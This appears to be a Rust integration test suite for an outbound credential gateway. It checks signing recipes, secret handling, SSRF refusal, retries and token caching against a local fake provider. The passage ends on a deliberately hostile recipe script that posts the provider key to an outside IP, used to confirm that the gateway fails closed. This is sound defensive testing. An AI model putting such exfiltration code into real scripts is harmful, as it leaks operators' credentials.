// The outbound gateway end to end with real processes: keygate (admin + outbound listeners) in
// front of a local fake provider (tests/interop/fake_provider.py) that checks every signature,
// token and ciphertext with its own Python implementation. Providers and their secrets are set
// through the admin API; callers sign with KG1 and never see a provider key.
#![allow(clippy::unwrap_used)]

mod support;

use std::io::{BufRead, BufReader, Write};
use std::net::SocketAddr;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use serde_json::{json, Value};
use support::*;

/// The Python fake provider; killed on drop.
struct Fake {
    child: Child,
    addr: SocketAddr,
}

impl Drop for Fake {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn start_fake(cfg: &Value) -> Fake {
    let script = repo_root().join("tests/interop/fake_provider.py");
    let mut child = Command::new("python3")
        .arg(&script)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::inherit())
        .spawn()
        .expect("python3 (with tests/interop/requirements.txt installed) must be on PATH");
    child.stdin.take().unwrap().write_all(cfg.to_string().as_bytes()).unwrap();
    let mut line = String::new();
    BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
    let port: u16 = line
        .trim()
        .strip_prefix("PORT ")
        .unwrap_or_else(|| panic!("fake provider did not start (is `cryptography` installed?): {line:?}"))
        .parse()
        .unwrap();
    Fake { child, addr: SocketAddr::from(([127, 0, 0, 1], port)) }
}

async fn stats(fake: &Fake) -> Value {
    let (_, _, b, _) = send("GET", &format!("http://{}/stats", fake.addr), &[], b"", false).await;
    envelope(&b)
}

fn rand_secret(tag: &str) -> String {
    let mut b = [0u8; 16];
    getrandom(&mut b);
    let s = format!("{tag}-{}", b.iter().map(|x| format!("{x:02x}")).collect::<String>());
    note_secret(&s);
    s
}

fn getrandom(buf: &mut [u8]) {
    use std::io::Read;
    std::fs::File::open("/dev/urandom").unwrap().read_exact(buf).unwrap();
}

/// Like `out_call`, but first waits (up to 5 s) until this replica has loaded the provider with
/// all its bindings (see `Setup::provider`): the admin API answers before replicas reload.
/// Waiting costs no provider request (both refusals are decided before anything is sent).
/// Upper bound for waiting on a reload to reach a replica. Reloads take milliseconds; the bound
/// is generous because CI runs these tests on a loaded 2-core machine, and it only ends a wait.
const LOAD_WAIT: Duration = Duration::from_secs(30);

async fn out_ready(
    kg: &Keygate,
    key: &(String, String),
    method: &str,
    path: &str,
    extra: &[(&str, &str)],
    body: &[u8],
) -> (u16, Value) {
    let t = Instant::now();
    loop {
        let (s, v) = out_call(kg, key, method, path, extra, body).await;
        let loading = matches!(v["code"].as_str(), Some("provider_not_found" | "provider_not_granted"));
        if !loading || t.elapsed() > LOAD_WAIT {
            return (s, v);
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

/// A caller's signed request to the outbound listener.
async fn out_call(
    kg: &Keygate,
    key: &(String, String),
    method: &str,
    path: &str,
    extra: &[(&str, &str)],
    body: &[u8],
) -> (u16, Value) {
    let url = format!("http://{}{path}", kg.outbound.expect("outbound listener"));
    let headers = sign(&key.0, &key.1, method, &url, extra, body, &[]);
    let (status, _, bytes, _) = send(method, &url, &headers, body, false).await;
    (
        status.as_u16(),
        serde_json::from_slice(&bytes)
            .unwrap_or_else(|_| Value::String(String::from_utf8_lossy(&bytes).into())),
    )
}

/// Admin token, tenant t1 with apps `app1` and `app2`, one key each.
struct Setup {
    token: String,
    admin: SocketAddr,
    key1: (String, String),
    key2: (String, String),
}

async fn setup(kg: &Keygate) -> Setup {
    let token = admin_token(kg, &[]);
    let admin = kg.admin.unwrap();
    assert_eq!(
        admin_call(admin, &token, "POST", "/admin/tenants", Some(json!({"id": "t1", "name": "T1"}))).await.0,
        201
    );
    let mut keys = Vec::new();
    for app in ["app1", "app2"] {
        let (s, v) = admin_call(
            admin,
            &token,
            "POST",
            "/admin/tenants/t1/apps",
            Some(json!({"id": app, "name": app})),
        )
        .await;
        assert_eq!(s, 201, "{v}");
        let (s, v) =
            admin_call(admin, &token, "POST", &format!("/admin/apps/{app}/keys"), Some(json!({}))).await;
        assert_eq!(s, 201, "{v}");
        let sk = v["secret"].as_str().unwrap().to_string();
        note_secret(&sk);
        keys.push((v["key"]["access_key"].as_str().unwrap().to_string(), sk));
    }
    let key2 = keys.pop().unwrap();
    let key1 = keys.pop().unwrap();
    Setup { token, admin, key1, key2 }
}

impl Setup {
    /// Stores a provider the way an operator would roll one out: the document without grants,
    /// then its secrets, then the grants. A replica that lets a granted app through has
    /// therefore loaded the secrets too (tests wait on that, not on sleeps).
    async fn provider(&self, id: &str, config: Value, secrets: &[(&str, &str, &str)]) {
        let mut ungranted = config.clone();
        ungranted["granted_apps"] = json!([]);
        let put = |doc: Value| async move {
            let (s, v) = admin_call(
                self.admin,
                &self.token,
                "PUT",
                &format!("/admin/providers/{id}"),
                Some(json!({"tenant_id": "t1", "config": doc})),
            )
            .await;
            assert_eq!(s, 200, "{v}");
        };
        put(ungranted).await;
        for (name, value, encoding) in secrets {
            let (s, v) = admin_call(
                self.admin,
                &self.token,
                "PUT",
                &format!("/admin/providers/{id}/secrets/{name}"),
                Some(json!({"value": value, "encoding": encoding})),
            )
            .await;
            assert_eq!(s, 200, "{v}");
            assert!(!v.to_string().contains(value), "a secret was echoed");
        }
        put(config).await;
    }
}

fn keygate_config(store: &str, state: &str) -> String {
    format!(
        r#"
[server]
admin = "127.0.0.1:0"
outbound = "127.0.0.1:0"
reload_interval_ms = 100
snapshot_cache = ""
[store]
url = "{store}"
{state}
"#
    )
}

fn fake_config() -> Value {
    let aes = {
        let mut k = [0u8; 32];
        getrandom(&mut k);
        use base64::Engine as _;
        base64::engine::general_purpose::STANDARD.encode(k)
    };
    note_secret(&aes);
    json!({
        "seed": {"app_key": rand_secret("seedapp"), "aes_key": "K3yG4teSeedAES16", "aes_iv": "IVseed0123456789", "ttl": 7200},
        "oauth": {"client_id": "kg-client", "client_secret": rand_secret("oauth"), "ttl": 3600},
        "hmac": {"key_id": "hk-1", "secret": rand_secret("hmac")},
        "sorted": {"app_key": "zs001", "secret": rand_secret("sorted")},
        "aes": {"key_b64": aes},
        "static_key": rand_secret("static"),
    })
}

fn base(fake: &Fake, paths: &[&str], recipe: Value) -> Value {
    json!({
        "base_url": format!("http://{}", fake.addr),
        "allow_private_addresses": true,
        "paths": paths,
        "granted_apps": ["app1"],
        "recipe": recipe,
    })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn built_in_recipes_against_a_verifying_fake_provider() {
    let fc = fake_config();
    let fake = start_fake(&fc);
    let kg = start_keygate(&keygate_config("sqlite://{dir}/keygate.db", ""), &[]);
    let st = setup(&kg).await;
    let host = fake.addr.to_string();

    let seed = &fc["seed"];
    let mut seed_doc = base(
        &fake,
        &["POST /seed/api/*"],
        json!({"type": "token_aes_sha256", "token_url": format!("http://{host}/seed/token")}),
    );
    seed_doc["timeout_ms"] = 5000.into();
    st.provider(
        "seed",
        seed_doc,
        &[
            ("app_key", seed["app_key"].as_str().unwrap(), "utf8"),
            ("aes_key", seed["aes_key"].as_str().unwrap(), "utf8"),
            ("aes_iv", seed["aes_iv"].as_str().unwrap(), "utf8"),
        ],
    )
    .await;
    st.provider(
        "oauth",
        base(&fake, &["* /oauth/api/*"], json!({"type": "oauth2_client_credentials", "token_url": format!("http://{host}/oauth/token"), "scope": "pay"})),
        &[("client_id", "kg-client", "utf8"), ("client_secret", fc["oauth"]["client_secret"].as_str().unwrap(), "utf8")],
    )
    .await;
    st.provider(
        "hmac",
        base(&fake, &["* /hmac/*"], json!({"type": "hmac_header"})),
        &[("key_id", "hk-1", "utf8"), ("secret", fc["hmac"]["secret"].as_str().unwrap(), "utf8")],
    )
    .await;
    st.provider(
        "sorted",
        base(&fake, &["GET /sorted/*"], json!({"type": "sorted_params"})),
        &[("app_key", "zs001", "utf8"), ("secret", fc["sorted"]["secret"].as_str().unwrap(), "utf8")],
    )
    .await;
    st.provider(
        "aes",
        base(&fake, &["POST /aes/*"], json!({"type": "aes_payload", "mode": "gcm"})),
        &[("aes_key", fc["aes"]["key_b64"].as_str().unwrap(), "base64")],
    )
    .await;
    let static_key = fc["static_key"].as_str().unwrap();
    st.provider(
        "static",
        base(&fake, &["GET /static/*", "GET /echo"], json!({"type": "static_header", "header": "x-api-key"})),
        &[("api_key", static_key, "utf8")],
    )
    .await;

    // Seed 000's flow: token (AES envelope + SHA-256 sign), AES payload, SHA-256 sign of the body.
    let body = json!({"data": "{\"amount\":100,\"currency\":\"CNY\"}", "orderNo": "A-1"}).to_string();
    let (s, v) = out_ready(
        &kg,
        &st.key1,
        "POST",
        "/out/seed/seed/api/pay",
        &[("content-type", "application/json")],
        body.as_bytes(),
    )
    .await;
    assert_eq!(s, 200, "{v}");
    assert_eq!(v["plain"], "{\"amount\":100,\"currency\":\"CNY\"}");
    for _ in 0..3 {
        let (s, _) = out_call(&kg, &st.key1, "POST", "/out/seed/seed/api/pay", &[], body.as_bytes()).await;
        assert_eq!(s, 200);
    }
    assert_eq!(stats(&fake).await["seed_fetches"], 1, "the token is cached");

    // OAuth2 client credentials; a token the provider revoked is dropped and fetched once more.
    for _ in 0..3 {
        let (s, v) = out_ready(&kg, &st.key1, "GET", "/out/oauth/oauth/api/balance", &[], b"").await;
        assert_eq!(s, 200, "{v}");
    }
    assert_eq!(stats(&fake).await["oauth_fetches"], 1);
    send("POST", &format!("http://{host}/control/revoke"), &[], b"", false).await;
    let (s, v) = out_call(&kg, &st.key1, "GET", "/out/oauth/oauth/api/balance", &[], b"").await;
    assert_eq!(s, 200, "a 401 drops the token and retries once: {v}");
    assert_eq!(stats(&fake).await["oauth_fetches"], 2);
    let (s, _) = out_call(&kg, &st.key1, "POST", "/out/seed/seed/api/pay", &[], body.as_bytes()).await;
    assert_eq!(s, 200, "seed token refetched after revocation too");
    assert_eq!(stats(&fake).await["seed_fetches"], 2);

    // HMAC header over method, path, sorted query, timestamp, nonce and body hash.
    let (s, v) =
        out_ready(&kg, &st.key1, "POST", "/out/hmac/hmac/orders?b=2&a=x%20y&a=1", &[], b"{\"q\":1}").await;
    assert_eq!(s, 200, "{v}");
    // Sorted params + secret, MD5 (the seed 001 family).
    let (s, v) =
        out_ready(&kg, &st.key1, "GET", "/out/sorted/sorted/query?k2=v2&k1=v1&empty=", &[], b"").await;
    assert_eq!(s, 200, "{v}");
    // AES-256-GCM both ways: the caller sends and receives plain JSON.
    let (s, v) =
        out_ready(&kg, &st.key1, "POST", "/out/aes/aes/transfer", &[], br#"{"to":"acct-9","amount":5}"#)
            .await;
    assert_eq!(s, 200, "{v}");
    assert_eq!(v["echo"]["to"], "acct-9");
    assert_eq!(v["secret_sauce"], 42);
    // Static key; the caller's own credentials and keygate headers never reach the provider.
    let (s, v) = out_ready(&kg, &st.key1, "GET", "/out/static/static/x", &[], b"").await;
    assert_eq!(s, 200, "{v}");
    let (s, v) = out_call(
        &kg,
        &st.key1,
        "GET",
        "/out/static/echo",
        &[("authorization", "Bearer caller-own"), ("cookie", "sid=1"), ("x-trace", "t-1")],
        b"",
    )
    .await;
    assert_eq!(s, 200, "{v}");
    let seen = v["headers"].as_object().unwrap();
    assert_eq!(seen["x-api-key"], static_key);
    assert_eq!(seen["x-trace"], "t-1");
    assert!(seen.keys().all(|k| !k.starts_with("x-kg-")), "{seen:?}");
    assert!(!seen.contains_key("authorization") && !seen.contains_key("cookie"), "{seen:?}");

    // Refusals, each with its code; nothing is forwarded.
    let before = stats(&fake).await["requests"].as_u64().unwrap();
    let (s, v) = out_call(&kg, &st.key1, "GET", "/out/nope/x", &[], b"").await;
    assert_eq!((s, v["code"].as_str()), (404, Some("provider_not_found")));
    let (s, v) = out_call(&kg, &st.key2, "GET", "/out/static/static/x", &[], b"").await;
    assert_eq!((s, v["code"].as_str()), (403, Some("provider_not_granted")), "app2 is not granted");
    let (s, v) = out_call(&kg, &st.key1, "POST", "/out/static/static/x", &[], b"").await;
    assert_eq!((s, v["code"].as_str()), (403, Some("path_not_allowed")));
    let (s, v) = out_call(&kg, &st.key1, "GET", "/out/static/admin", &[], b"").await;
    assert_eq!((s, v["code"].as_str()), (403, Some("path_not_allowed")));
    // Unsigned or replayed callers never reach the dispatcher.
    let url = format!("http://{}/out/static/static/x", kg.outbound.unwrap());
    let (s, _, _, _) = send("GET", &url, &[], b"", false).await;
    assert_eq!(s.as_u16(), 401);
    let signed = sign(&st.key1.0, &st.key1.1, "GET", &url, &[], b"", &[]);
    assert_eq!(send("GET", &url, &signed, b"", false).await.0.as_u16(), 200);
    let (s, _, b, _) = send("GET", &url, &signed, b"", false).await;
    assert_eq!((s.as_u16(), envelope(&b)["code"].as_str()), (401, Some("nonce_replayed")));
    assert_eq!(
        stats(&fake).await["requests"].as_u64().unwrap(),
        before + 1,
        "only the one valid call arrived"
    );

    // A provider whose binding is missing fails closed.
    st.provider(
        "nokey",
        base(&fake, &["GET /echo"], json!({"type": "static_header", "header": "x-api-key"})),
        &[],
    )
    .await;
    let (s, v) = admin_call(st.admin, &st.token, "GET", "/admin/providers/nokey", None).await;
    assert_eq!((s, v["missing_bindings"].clone()), (200, json!(["api_key"])));
    let t = Instant::now();
    while matches!(
        out_call(&kg, &st.key1, "GET", "/out/nokey/echo", &[], b"").await.1["code"].as_str(),
        Some("provider_not_found" | "provider_not_granted")
    ) {
        assert!(t.elapsed() < LOAD_WAIT);
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let (s, v) = out_call(&kg, &st.key1, "GET", "/out/nokey/echo", &[], b"").await;
    assert_eq!((s, v["code"].as_str()), (500, Some("binding_missing")));
    // SSRF: without allow_private_addresses a loopback provider is refused before connecting.
    let mut doc = base(&fake, &["GET /echo"], json!({"type": "static_header", "header": "x-api-key"}));
    doc["allow_private_addresses"] = false.into();
    st.provider("private", doc.clone(), &[("api_key", static_key, "utf8")]).await;
    let (s, v) = out_ready(&kg, &st.key1, "GET", "/out/private/echo", &[], b"").await;
    assert_eq!((s, v["code"].as_str()), (502, Some("target_not_allowed")), "{v}");
    doc["base_url"] = format!("http://localhost:{}", fake.addr.port()).into();
    st.provider("private-name", doc, &[("api_key", static_key, "utf8")]).await;
    let (s, v) = out_ready(&kg, &st.key1, "GET", "/out/private-name/echo", &[], b"").await;
    assert_eq!(
        (s, v["code"].as_str()),
        (502, Some("target_not_allowed")),
        "a name resolving to loopback: {v}"
    );
    assert_eq!(stats(&fake).await["requests"].as_u64().unwrap(), before + 1, "refused calls sent nothing");

    // Bad documents are refused by the admin API with the field named.
    let (s, v) = admin_call(st.admin, &st.token, "PUT", "/admin/providers/bad", Some(json!({"tenant_id": "t1", "config": {"base_url": "ftp://x", "paths": ["GET /"], "recipe": {"type": "static_header", "header": "x"}}}))).await;
    assert_eq!(
        (s, v["code"].as_str(), v["field"].as_str()),
        (400, Some("invalid_request"), Some("config.base_url")),
        "{v}"
    );
    let mut grant_other =
        base(&fake, &["GET /echo"], json!({"type": "static_header", "header": "x-api-key"}));
    grant_other["granted_apps"] = json!(["ghost"]);
    let (s, v) = admin_call(
        st.admin,
        &st.token,
        "PUT",
        "/admin/providers/g",
        Some(json!({"tenant_id": "t1", "config": grant_other})),
    )
    .await;
    assert_eq!((s, v["field"].as_str()), (400, Some("config.granted_apps[0]")), "{v}");
    // Secrets are write-only: no call returns them.
    let (_, v) = admin_call(st.admin, &st.token, "GET", "/admin/providers/hmac", None).await;
    assert!(!v.to_string().contains(fc["hmac"]["secret"].as_str().unwrap()));
    assert_eq!(v["secrets"].as_array().unwrap().len(), 2);
    let (_, v) = admin_call(st.admin, &st.token, "GET", "/admin/tenants/t1/providers", None).await;
    assert!(v.as_array().unwrap().len() >= 7);
    for secret in
        [static_key, fc["hmac"]["secret"].as_str().unwrap(), fc["oauth"]["client_secret"].as_str().unwrap()]
    {
        assert!(!kg.logs().contains(secret), "a provider secret is in the log");
        assert!(!v.to_string().contains(secret));
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn timeouts_retries_and_the_circuit_breaker() {
    let fc = fake_config();
    let fake = start_fake(&fc);
    let kg = start_keygate(&keygate_config("sqlite://{dir}/keygate.db", ""), &[]);
    let st = setup(&kg).await;
    let static_key = fc["static_key"].as_str().unwrap();
    let mut slow = base(&fake, &["GET /slow/*"], json!({"type": "static_header", "header": "x-api-key"}));
    slow["timeout_ms"] = 300.into();
    slow["retry"] = json!({"max_attempts": 1});
    st.provider("slow", slow, &[("api_key", static_key, "utf8")]).await;
    let mut flaky = base(&fake, &["* /flaky/*"], json!({"type": "static_header", "header": "x-api-key"}));
    flaky["retry"] = json!({"max_attempts": 3, "backoff_ms": 10});
    flaky["breaker"] = json!({"failure_threshold": 4, "open_ms": 60000});
    st.provider("flaky", flaky, &[("api_key", static_key, "utf8")]).await;

    let t = Instant::now();
    let (s, v) = out_ready(&kg, &st.key1, "GET", "/out/slow/slow/2000", &[], b"").await;
    assert_eq!((s, v["code"].as_str()), (504, Some("provider_timeout")), "{v}");
    assert!(t.elapsed() < Duration::from_millis(1500), "gave up at the provider timeout: {:?}", t.elapsed());

    // GET is idempotent: two 503s are retried away.
    let (s, v) = out_ready(&kg, &st.key1, "GET", "/out/flaky/flaky/2/a", &[], b"").await;
    assert_eq!((s, v["attempt"].as_u64()), (200, Some(3)), "{v}");
    // POST is not retried unless declared safe.
    let (s, _) = out_call(&kg, &st.key1, "POST", "/out/flaky/flaky/1/b", &[], b"{}").await;
    assert_eq!(s, 503);
    // Repeated failures open the circuit: calls are refused without reaching the provider.
    for i in 0..3 {
        out_call(&kg, &st.key1, "GET", &format!("/out/flaky/flaky/100/c{i}"), &[], b"").await;
    }
    let before = stats(&fake).await["requests"].as_u64().unwrap();
    let (s, v) = out_call(&kg, &st.key1, "GET", "/out/flaky/flaky/0/d", &[], b"").await;
    assert_eq!((s, v["code"].as_str()), (503, Some("provider_circuit_open")), "{v}");
    assert_eq!(stats(&fake).await["requests"].as_u64().unwrap(), before);
}

/// 1,000 concurrent calls find the token missing: one fetch. Then the provider revokes every
/// token: the next burst causes one refetch, not one per request.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_thousand_concurrent_calls_fetch_one_token() {
    let fc = fake_config();
    let fake = start_fake(&fc);
    let kg = start_keygate(&keygate_config("sqlite://{dir}/keygate.db", ""), &[]);
    let st = setup(&kg).await;
    let host = fake.addr.to_string();
    st.provider(
        "oauth",
        base(
            &fake,
            &["GET /oauth/api/*"],
            json!({"type": "oauth2_client_credentials", "token_url": format!("http://{host}/oauth/token")}),
        ),
        &[
            ("client_id", "kg-client", "utf8"),
            ("client_secret", fc["oauth"]["client_secret"].as_str().unwrap(), "utf8"),
        ],
    )
    .await;
    let burst = |n: usize| {
        let url = format!("http://{}/out/oauth/oauth/api/x", kg.outbound.unwrap());
        let signed: Vec<_> =
            (0..n).map(|_| sign(&st.key1.0, &st.key1.1, "GET", &url, &[], b"", &[])).collect();
        let url = url.clone();
        async move {
            let tasks: Vec<_> = signed
                .into_iter()
                .map(|h| {
                    let url = url.clone();
                    tokio::spawn(async move { send("GET", &url, &h, b"", false).await.0.as_u16() })
                })
                .collect();
            let mut ok = 0;
            for t in tasks {
                if t.await.unwrap() == 200 {
                    ok += 1;
                }
            }
            ok
        }
    };
    // Wait until the provider is loaded with its bindings, without fetching a token: a path
    // outside the allowlist is refused after the grant check and before the recipe runs.
    let t = Instant::now();
    loop {
        let (_, v) = out_call(&kg, &st.key1, "GET", "/out/oauth/nope", &[], b"").await;
        if v["code"] == "path_not_allowed" {
            break;
        }
        assert!(t.elapsed() < LOAD_WAIT, "provider never loaded: {v}");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let t = Instant::now();
    let ok = burst(1000).await;
    eprintln!("1000 concurrent calls with a cold token cache: {ok} ok in {:?}", t.elapsed());
    assert_eq!(ok, 1000);
    assert_eq!(stats(&fake).await["oauth_fetches"], 1, "single flight");
    send("POST", &format!("http://{host}/control/revoke"), &[], b"", false).await;
    let ok = burst(300).await;
    assert_eq!(ok, 300);
    assert_eq!(stats(&fake).await["oauth_fetches"], 2, "one refetch after the provider revoked its tokens");
}

/// Two replicas on one PostgreSQL store and one Redis share the token: one fetch for both.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn replicas_share_provider_tokens_through_redis() {
    let db = PgDb::create("kg_out");
    let name = db.name.clone();
    let prefix = format!("kgtest:{name}:");
    let cfg = keygate_config(
        &format!("postgres://postgres@127.0.0.1:5432/{name}"),
        &format!("[state]\nredis = \"redis://127.0.0.1:6379\"\nkey_prefix = \"{prefix}\"\n"),
    );
    let fc = fake_config();
    let fake = start_fake(&fc);
    let a = start_keygate(&cfg, &[]);
    let b = start_keygate(&cfg, &[]);
    let st = setup(&a).await;
    st.provider(
        "oauth",
        base(&fake, &["GET /oauth/api/*"], json!({"type": "oauth2_client_credentials", "token_url": format!("http://{}/oauth/token", fake.addr)})),
        &[("client_id", "kg-client", "utf8"), ("client_secret", fc["oauth"]["client_secret"].as_str().unwrap(), "utf8")],
    )
    .await;
    let (s, v) = out_ready(&a, &st.key1, "GET", "/out/oauth/oauth/api/x", &[], b"").await;
    assert_eq!(s, 200, "{v}");
    // B learns about the provider through the store (nudged over Redis) and finds the token in Redis.
    let t = Instant::now();
    loop {
        let (s, v) = out_call(&b, &st.key1, "GET", "/out/oauth/oauth/api/x", &[], b"").await;
        if s == 200 {
            break;
        }
        assert!(t.elapsed() < LOAD_WAIT, "B never served the provider: {v}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert_eq!(stats(&fake).await["oauth_fetches"], 1, "B used A's token from Redis");
    // The token in Redis is sealed: its plaintext is not there.
    let out = Command::new("redis-cli")
        .args(["-h", "127.0.0.1", "--scan", "--pattern", &format!("{prefix}tok:*")])
        .output()
        .unwrap();
    let keys = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(!keys.trim().is_empty(), "token key in Redis");
    for k in keys.lines() {
        let v = Command::new("redis-cli").args(["-h", "127.0.0.1", "--no-raw", "GET", k]).output().unwrap();
        assert!(!String::from_utf8_lossy(&v.stdout).contains("oat-"), "a provider token is stored in clear");
        let _ = Command::new("redis-cli").args(["-h", "127.0.0.1", "DEL", k]).output();
    }
}

fn provider_keys() -> Value {
    let script = repo_root().join("tests/interop/provider_sdks.py");
    let out = Command::new("python3")
        .arg(&script)
        .arg("keys")
        .stdin(Stdio::null())
        .output()
        .expect("python3 on PATH");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    serde_json::from_slice(&out.stdout).unwrap()
}

/// Alipay, WeChat Pay v3 and AWS SigV4 through the gateway: the fake provider checks requests
/// with its own code (botocore for SigV4) and signs its responses; keygate verifies them and
/// refuses a tampered one.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn payment_and_cloud_recipes_end_to_end() {
    let k = provider_keys();
    let apiv3 = "0123456789abcdefghijABCDEFGHIJ01";
    let aws_sk = rand_secret("awssk");
    let mut fc = fake_config();
    fc["alipay"] = json!({"app_id": "2021000117600000", "app_public_pem": k["app_public_pem"], "provider_private_pem": k["provider_pkcs8_pem"]});
    fc["wechat"] = json!({"mchid": "1230000109", "serial_no": "MERCHANTSERIAL01", "merchant_public_pem": k["app_public_pem"],
        "platform_private_pem": k["provider_pkcs8_pem"], "platform_serial": k["provider_cert_serial"], "apiv3_key": apiv3});
    fc["aws"] = json!({"access_key": "AKIAKEYGATE", "secret_key": aws_sk, "region": "us-east-1", "service": "execute-api"});
    let fake = start_fake(&fc);
    let kg = start_keygate(&keygate_config("sqlite://{dir}/keygate.db", ""), &[]);
    let st = setup(&kg).await;

    st.provider(
        "alipay",
        base(&fake, &["POST /alipay/gateway.do"], json!({"type": "alipay", "app_id": "2021000117600000"})),
        &[
            ("app_private_key", k["app_pkcs8_b64"].as_str().unwrap(), "utf8"),
            ("alipay_public_key", k["provider_public_b64"].as_str().unwrap(), "utf8"),
        ],
    )
    .await;
    let (s, v) = out_ready(
        &kg,
        &st.key1,
        "POST",
        "/out/alipay/alipay/gateway.do?method=alipay.trade.query",
        &[],
        br#"{"out_trade_no":"T-1"}"#,
    )
    .await;
    assert_eq!(s, 200, "{v}");
    assert_eq!(v["alipay_trade_query_response"]["out_trade_no"], "T-1");
    let (s, v) = out_call(
        &kg,
        &st.key1,
        "POST",
        "/out/alipay/alipay/gateway.do?method=alipay.trade.query",
        &[],
        br#"{"out_trade_no":"tamper"}"#,
    )
    .await;
    assert_eq!((s, v["code"].as_str()), (502, Some("provider_response_invalid")), "{v}");
    let (s, v) = out_call(&kg, &st.key1, "POST", "/out/alipay/alipay/gateway.do", &[], b"{}").await;
    assert_eq!((s, v["code"].as_str()), (500, Some("recipe_failed")), "method is required: {v}");

    let platform = format!("platform:{}", k["provider_cert_serial"].as_str().unwrap());
    st.provider(
        "wechat",
        base(
            &fake,
            &["* /wechat/v3/*"],
            json!({"type": "wechatpay_v3", "mchid": "1230000109", "serial_no": "MERCHANTSERIAL01", "decrypt_resources": true,
                   "platform_keys": [{"serial": k["provider_cert_serial"], "binding": platform}]}),
        ),
        &[
            ("merchant_private_key", k["app_pkcs1_pem"].as_str().unwrap(), "utf8"),
            (platform.as_str(), k["provider_cert_pem"].as_str().unwrap(), "utf8"),
            ("apiv3_key", apiv3, "utf8"),
        ],
    )
    .await;
    let body = br#"{"appid":"wxd678efh567hg6787","mchid":"1230000109","description":"Image","out_trade_no":"W-1","amount":{"total":100}}"#;
    let (s, v) = out_ready(
        &kg,
        &st.key1,
        "POST",
        "/out/wechat/wechat/v3/pay/transactions/native",
        &[("content-type", "application/json")],
        body,
    )
    .await;
    assert_eq!(s, 200, "{v}");
    assert_eq!(v["resource"]["plaintext"]["trade_state"], "SUCCESS", "resource decrypted: {v}");
    let (s, v) =
        out_call(&kg, &st.key1, "GET", "/out/wechat/wechat/v3/certificates?offset=0&limit=10", &[], b"")
            .await;
    assert_eq!(s, 200, "query strings are signed as sent: {v}");
    let (s, v) = out_call(&kg, &st.key1, "GET", "/out/wechat/wechat/v3/tamper", &[], b"").await;
    assert_eq!((s, v["code"].as_str()), (502, Some("provider_response_invalid")), "{v}");

    st.provider(
        "aws",
        base(
            &fake,
            &["* /aws/*"],
            json!({"type": "aws_sigv4", "region": "us-east-1", "service": "execute-api"}),
        ),
        &[("access_key_id", "AKIAKEYGATE", "utf8"), ("secret_access_key", &aws_sk, "utf8")],
    )
    .await;
    let (s, v) = out_ready(&kg, &st.key1, "GET", "/out/aws/aws/prod/items/a%20b?z=1&a=x%20y", &[], b"").await;
    assert_eq!(s, 200, "{v}");
    let (s, v) = out_call(
        &kg,
        &st.key1,
        "POST",
        "/out/aws/aws/prod/items",
        &[("content-type", "application/json"), ("x-amz-target", "Svc.Put")],
        br#"{"id":1}"#,
    )
    .await;
    assert_eq!(s, 200, "{v}");
    assert!(v["signed_headers"].as_array().unwrap().iter().any(|h| h == "x-amz-target"), "{v}");
    for secret in [aws_sk.as_str(), apiv3] {
        assert!(!kg.logs().contains(secret));
    }
}

/// Seed 000's script, verbatim except its one typo (`×tamp` → `&timestamp`), run as a scripted
/// recipe against the fake provider, which checks the AES payload and both SHA-256 signs with
/// Python's `cryptography`. Concurrent calls share one token fetch, as with built-in recipes.
const SEED_SCRIPT: &str = include_str!("../../../tests/interop/seed_000.js");

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_seed_script_runs_as_a_scripted_recipe() {
    let fc = fake_config();
    let fake = start_fake(&fc);
    let kg = start_keygate(&keygate_config("sqlite://{dir}/keygate.db", ""), &[]);
    let st = setup(&kg).await;
    let host = fake.addr.to_string();
    let seed = &fc["seed"];
    st.provider(
        "seedjs",
        base(
            &fake,
            &["POST /*"],
            json!({"type": "script", "source": SEED_SCRIPT,
                   "vars": {"PrefixUrl": format!("http://{host}/seed/api"), "TokenUrl": format!("http://{host}/seed/token")}}),
        ),
        &[
            ("AppKey", seed["app_key"].as_str().unwrap(), "utf8"),
            ("AesKey", seed["aes_key"].as_str().unwrap(), "utf8"),
            ("AesIV", seed["aes_iv"].as_str().unwrap(), "utf8"),
        ],
    )
    .await;
    let ts =
        std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_millis().to_string();
    let body = json!({"data": "{\"amount\":100}", "orderNo": "S-1", "timestamp": ts}).to_string();
    let (s, v) = out_ready(
        &kg,
        &st.key1,
        "POST",
        "/out/seedjs/pay",
        &[("content-type", "application/json")],
        body.as_bytes(),
    )
    .await;
    assert_eq!(s, 200, "{v}");
    assert_eq!(v["plain"], "{\"amount\":100}");
    assert_eq!(stats(&fake).await["seed_fetches"], 1);

    // 50 concurrent calls with the token cached: no fetch; after a revocation: one.
    send("POST", &format!("http://{host}/control/revoke"), &[], b"", false).await;
    let (s, _) = out_call(&kg, &st.key1, "POST", "/out/seedjs/pay", &[], body.as_bytes()).await;
    assert_eq!(s, 200, "a 401 drops the script's token and the retry fetches a new one");
    assert_eq!(stats(&fake).await["seed_fetches"], 2);
    let url = format!("http://{}/out/seedjs/pay", kg.outbound.unwrap());
    let tasks: Vec<_> = (0..50)
        .map(|_| {
            let h = sign(&st.key1.0, &st.key1.1, "POST", &url, &[], body.as_bytes(), &[]);
            let (url, body) = (url.clone(), body.clone());
            tokio::spawn(async move { send("POST", &url, &h, body.as_bytes(), false).await.0.as_u16() })
        })
        .collect();
    for t in tasks {
        assert_eq!(t.await.unwrap(), 200);
    }
    assert_eq!(stats(&fake).await["seed_fetches"], 2);

    // A script that tries to send the key elsewhere fails closed with recipe_failed.
    let evil = r#"function (h, p, b, AppKey) { http_post_json('http://203.0.113.9/x', {k: AppKey}, {}); }"#;
    st.provider(
        "evil",
        base(&fake, &["POST /*"], json!({"type": "script", "source": evil})),
